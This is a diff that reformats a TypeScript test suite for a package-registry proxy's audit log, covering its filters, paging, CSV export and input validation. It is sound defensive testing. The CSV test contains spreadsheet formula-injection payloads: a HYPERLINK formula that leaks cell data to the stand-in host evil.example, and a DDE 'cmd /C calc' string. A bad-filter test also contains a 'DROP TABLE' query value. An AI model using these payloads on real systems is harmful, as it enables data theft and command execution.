@@ -30,9 +30,12 @@ async function traffic(s: AdminSetup) {
   const reader = await s.token('rita', { roles: ['reader'] });
   const auditor = await s.token('audrey', { roles: ['auditor'] });
   const json = { accept: 'application/json' };
-  for (let i = 0; i < 3; i++) await s.api('GET', '/proxy/npm/hubdemo/1.0.0/tarball', { token: reader, localAddress: '127.0.0.3' });
+  for (let i = 0; i < 3; i++)
+    await s.api('GET', '/proxy/npm/hubdemo/1.0.0/tarball', { token: reader, localAddress: '127.0.0.3' });
   await s.api('GET', '/proxy/npm/hubdemo', { token: reader, localAddress: '127.0.0.3', headers: json });
-  await s.api('POST', '/api/v1/admin/blocks', { body: { registry: 'npm', package_name: 'hubdep', reason: 'a,"quoted"\r\nline =1+1' } });
+  await s.api('POST', '/api/v1/admin/blocks', {
+    body: { registry: 'npm', package_name: 'hubdep', reason: 'a,"quoted"\r\nline =1+1' },
+  });
   await s.api('GET', '/proxy/npm/hubdep', { token: reader, localAddress: '127.0.0.3', headers: json });
   // Two clients: challenges from one IP are written once a second (issue 10).
   await s.api('GET', '/proxy/npm/hubdemo', { token: null, localAddress: '127.0.0.4', headers: json });
@@ -42,32 +45,79 @@ async function traffic(s: AdminSetup) {
   await s.api('POST', '/api/v1/admin/unlist', { body: { registry: 'npm', package_name: 'hubdemo', version: '1.0.0' } });
   await s.api('DELETE', `/api/v1/admin/cache/npm/hubdemo/1.0.0`);
   // The cache's own removals are written through the same writer (action retention_reclaim).
-  s.hub.audit.record({ at: Date.now(), user_id: null, token_id: null, ip_address: null, action: 'retention_reclaim', outcome: 'allowed', registry: 'npm', package: 'hubdemo', version: '1.1.0', status: 200, code: null, request_id: null, detail: 'lru' });
+  s.hub.audit.record({
+    at: Date.now(),
+    user_id: null,
+    token_id: null,
+    ip_address: null,
+    action: 'retention_reclaim',
+    outcome: 'allowed',
+    registry: 'npm',
+    package: 'hubdemo',
+    version: '1.1.0',
+    status: 200,
+    code: null,
+    request_id: null,
+    detail: 'lru',
+  });
 }
 
 t.test('the audit log records registry requests, refusals and admin actions with their members', async (t) => {
   const s = await setup(t);
   await traffic(s);
   const rows = await auditRows(s);
-  t.match(rows.find((r) => r.action === 'download' && r.ip_address === '127.0.0.3'), {
-    user_id: 'rita',
-    token_id: /^[0-9a-f]{16}$/,
-    outcome: 'allowed',
-    registry: 'npm',
-    package: 'hubdemo',
-    version: '1.0.0',
-    status: 200,
-    code: null,
-    request_id: /\S/,
-  });
-  t.match(rows.find((r) => r.action === 'metadata' && r.outcome === 'allowed'), { package: 'hubdemo', version: null, user_id: 'rita' });
-  t.match(rows.find((r) => r.code === 'package_blocked'), { outcome: 'denied', status: 403, package: 'hubdep', user_id: 'rita', ip_address: '127.0.0.3' });
+  t.match(
+    rows.find((r) => r.action === 'download' && r.ip_address === '127.0.0.3'),
+    {
+      user_id: 'rita',
+      token_id: /^[0-9a-f]{16}$/,
+      outcome: 'allowed',
+      registry: 'npm',
+      package: 'hubdemo',
+      version: '1.0.0',
+      status: 200,
+      code: null,
+      request_id: /\S/,
+    },
+  );
+  t.match(
+    rows.find((r) => r.action === 'metadata' && r.outcome === 'allowed'),
+    { package: 'hubdemo', version: null, user_id: 'rita' },
+  );
+  t.match(
+    rows.find((r) => r.code === 'package_blocked'),
+    { outcome: 'denied', status: 403, package: 'hubdep', user_id: 'rita', ip_address: '127.0.0.3' },
+  );
   t.equal(rows.filter((r) => r.outcome === 'challenged').length, 2, 'credential-less 401s are challenges, not denials');
-  t.match(rows.find((r) => r.code === 'forbidden'), { user_id: 'audrey', outcome: 'denied', status: 403, ip_address: '127.0.0.4' });
-  t.match(rows.find((r) => r.action === 'block_add'), { user_id: 'admin', token_id: 'bootstrap', outcome: 'allowed', status: 201, registry: 'npm', package: 'hubdep', version: null, detail: 'a,"quoted"\r\nline =1+1' });
-  t.match(rows.find((r) => r.action === 'ip_block_add'), { detail: 'ip 2001:db8::/32: tab\there "and" comma,' });
-  t.match(rows.find((r) => r.action === 'delete'), { user_id: 'admin', registry: 'npm', package: 'hubdemo', version: '1.0.0', status: 200 });
-  t.match(rows.find((r) => r.action === 'retention_reclaim'), { user_id: null, registry: 'npm', version: '1.1.0' });
+  t.match(
+    rows.find((r) => r.code === 'forbidden'),
+    { user_id: 'audrey', outcome: 'denied', status: 403, ip_address: '127.0.0.4' },
+  );
+  t.match(
+    rows.find((r) => r.action === 'block_add'),
+    {
+      user_id: 'admin',
+      token_id: 'bootstrap',
+      outcome: 'allowed',
+      status: 201,
+      registry: 'npm',
+      package: 'hubdep',
+      version: null,
+      detail: 'a,"quoted"\r\nline =1+1',
+    },
+  );
+  t.match(
+    rows.find((r) => r.action === 'ip_block_add'),
+    { detail: 'ip 2001:db8::/32: tab\there "and" comma,' },
+  );
+  t.match(
+    rows.find((r) => r.action === 'delete'),
+    { user_id: 'admin', registry: 'npm', package: 'hubdemo', version: '1.0.0', status: 200 },
+  );
+  t.match(
+    rows.find((r) => r.action === 'retention_reclaim'),
+    { user_id: null, registry: 'npm', version: '1.1.0' },
+  );
   const metrics = await (await fetch(`${s.url}/metrics`)).text();
   t.match(metrics, /hub_access_denials_total\{code="package_blocked"\} 1/, 'denials are counted by code');
   t.match(metrics, /hub_auth_challenges_total 2/, 'challenges are counted apart');
@@ -92,7 +142,10 @@ t.test('the filters return exactly the matching rows', async (t) => {
     [`from=${iso(from)}`, (r) => Number(r.at) >= from],
     [`to=${iso(to)}`, (r) => Number(r.at) < to],
     ['denied=true&ip=127.0.0.3', (r) => r.outcome === 'denied' && r.ip_address === '127.0.0.3'],
-    ['user_id=rita&action=download,metadata', (r) => r.user_id === 'rita' && ['download', 'metadata'].includes(r.action)],
+    [
+      'user_id=rita&action=download,metadata',
+      (r) => r.user_id === 'rita' && ['download', 'metadata'].includes(r.action),
+    ],
     ['registry=npm&denied=true', (r) => r.registry === 'npm' && r.outcome === 'denied'],
     ['action=no_such_action', () => false],
   ];
@@ -104,7 +157,10 @@ t.test('the filters return exactly the matching rows', async (t) => {
     t.same(r.json.entries, want, `${query}: ${want.length} rows`);
     t.equal(r.json.next_cursor, null);
   }
-  t.ok(all.filter((r) => r.outcome === 'denied').length >= 2 && all.some((r) => r.outcome === 'allowed'), 'the data has both outcomes');
+  t.ok(
+    all.filter((r) => r.outcome === 'denied').length >= 2 && all.some((r) => r.outcome === 'allowed'),
+    'the data has both outcomes',
+  );
 });
 
 t.test('cursor paging is stable while new rows arrive', async (t) => {
@@ -132,14 +188,24 @@ t.test('the CSV export parses back to the same rows', async (t) => {
   const s = await setup(t);
   await traffic(s);
   const snapshotMax = Math.max(...(await auditRows(s)).map((r) => Number(r.id)));
-  for (const query of ['', 'ip=127.0.0.1', 'denied=true', `from=${iso(Date.now() - 60_000)}&to=${iso(Date.now() + 60_000)}`]) {
+  for (const query of [
+    '',
+    'ip=127.0.0.1',
+    'denied=true',
+    `from=${iso(Date.now() - 60_000)}&to=${iso(Date.now() + 60_000)}`,
+  ]) {
     const csv = await s.api('GET', `/api/v1/admin/audit-log/export?format=csv&${query}`);
     t.equal(csv.status, 200);
     t.match(csv.headers['content-type'], /^text\/csv/);
     const [header, ...records] = parseCsv(csv.text);
     t.same(header, [...ENTRY_COLUMNS], 'the header names the members');
-    const json = (await s.api('GET', `/api/v1/admin/audit-log?limit=1000&${query}`)).json.entries as Record<string, unknown>[];
-    const expected = json.filter((e) => Number(e.id) <= snapshotMax).map((e) => ENTRY_COLUMNS.map((c) => (e[c] === null ? '' : String(e[c]))));
+    const json = (await s.api('GET', `/api/v1/admin/audit-log?limit=1000&${query}`)).json.entries as Record<
+      string,
+      unknown
+    >[];
+    const expected = json
+      .filter((e) => Number(e.id) <= snapshotMax)
+      .map((e) => ENTRY_COLUMNS.map((c) => (e[c] === null ? '' : String(e[c]))));
     const got = records.filter((r) => Number(r[0]) <= snapshotMax);
     t.same(got, expected, `${query || 'no filter'}: ${got.length} rows`);
   }
@@ -161,15 +227,30 @@ t.test('CSV cells that a spreadsheet would run as formulas are written as text',
   ] as const) {
     t.equal(csvRecord([value]), `${cell}\r\n`, JSON.stringify(value));
   }
-  t.equal(csvRecord([-1, null, 'a\nb', 'x,y']), '-1,,"a\nb","x,y"\r\n', 'numbers are not text; null is empty; CR, LF and commas are quoted');
+  t.equal(
+    csvRecord([-1, null, 'a\nb', 'x,y']),
+    '-1,,"a\nb","x,y"\r\n',
+    'numbers are not text; null is empty; CR, LF and commas are quoted',
+  );
 
   const s = await setup(t);
-  for (const reason of ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|\' /C calc\'!A0']) {
-    t.equal((await s.api('POST', '/api/v1/admin/blocks', { body: { registry: 'npm', package_name: `p${reason.length}`, reason } })).status, 201);
+  for (const reason of ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"]) {
+    t.equal(
+      (
+        await s.api('POST', '/api/v1/admin/blocks', {
+          body: { registry: 'npm', package_name: `p${reason.length}`, reason },
+        })
+      ).status,
+      201,
+    );
   }
   const rows = parseCsv((await s.api('GET', '/api/v1/admin/audit-log/export?action=block_add')).text).slice(1);
   const details = rows.map((r) => r[ENTRY_COLUMNS.indexOf('detail')]).sort();
-  t.same(details, ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "'@SUM(1+1)*cmd|' /C calc'!A0"].sort(), 'the cells start with a quote');
+  t.same(
+    details,
+    ['\'=HYPERLINK("http://evil.example/?"&A1,"open")', "'@SUM(1+1)*cmd|' /C calc'!A0"].sort(),
+    'the cells start with a quote',
+  );
 });
 
 t.test('a clean shutdown writes every buffered event', async (t) => {
@@ -177,16 +258,36 @@ t.test('a clean shutdown writes every buffered event', async (t) => {
   const reader = await s.token('rita', { roles: ['reader'] });
   for (let i = 0; i < 25; i++) await s.api('GET', '/proxy/npm/hubdemo/1.0.0/tarball', { token: reader });
   const file = s.hub.config.database.filename;
-  t.equal(Number((await s.hub.db('access_events').count({ n: '*' }))[0]!.n), 0, 'nothing written yet (the timer is a minute)');
+  t.equal(
+    Number((await s.hub.db('access_events').count({ n: '*' }))[0]!.n),
+    0,
+    'nothing written yet (the timer is a minute)',
+  );
   await s.close();
   const db = createDb({ client: 'sqlite', filename: file } as never);
   t.teardown(() => db.destroy());
-  t.equal(Number((await db('access_events').where({ action: 'download' }).count({ n: '*' }))[0]!.n), 25, 'all 25 downloads are in the database after close');
+  t.equal(
+    Number((await db('access_events').where({ action: 'download' }).count({ n: '*' }))[0]!.n),
+    25,
+    'all 25 downloads are in the database after close',
+  );
 });
 
 t.test('bad filters are 400 with a message', async (t) => {
   const s = await setup(t);
-  for (const q of ['denied=maybe', 'from=yesterday', 'to=2025-13-01T00:00:00Z', 'action=DROP%20TABLE', 'ip=999.1.1.1', 'cursor=abc', 'cursor=-1', 'limit=0', 'limit=5000', 'outcome=lost', 'denied=true&outcome=allowed']) {
+  for (const q of [
+    'denied=maybe',
+    'from=yesterday',
+    'to=2025-13-01T00:00:00Z',
+    'action=DROP%20TABLE',
+    'ip=999.1.1.1',
+    'cursor=abc',
+    'cursor=-1',
+    'limit=0',
+    'limit=5000',
+    'outcome=lost',
+    'denied=true&outcome=allowed',
+  ]) {
     const r = await s.api('GET', `/api/v1/admin/audit-log?${q}`);
     t.equal(r.status, 400, q);
     t.equal(r.json.error.code, 'bad_request', `${q}: ${r.json.error.message}`);
